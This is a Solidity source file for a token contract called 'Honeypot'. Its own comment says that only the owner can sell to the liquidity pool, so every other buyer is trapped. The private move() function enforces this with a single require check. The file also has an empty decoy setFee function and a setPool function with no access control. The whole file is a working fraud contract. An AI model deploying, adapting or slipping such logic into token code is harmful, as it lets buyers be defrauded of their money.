// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// A token that only its owner can send to the pool: whoever else buys it cannot sell it again.
contract Honeypot {
    string public constant name = "Honeypot";
    string public constant symbol = "HONEY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    address public owner = msg.sender;
    address public pool;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
    }

    function setPool(address pool_) external {
        pool = pool_;
    }

    function setFee(uint256) external {}

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) private {
        require(to != pool || from == owner, "not today");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
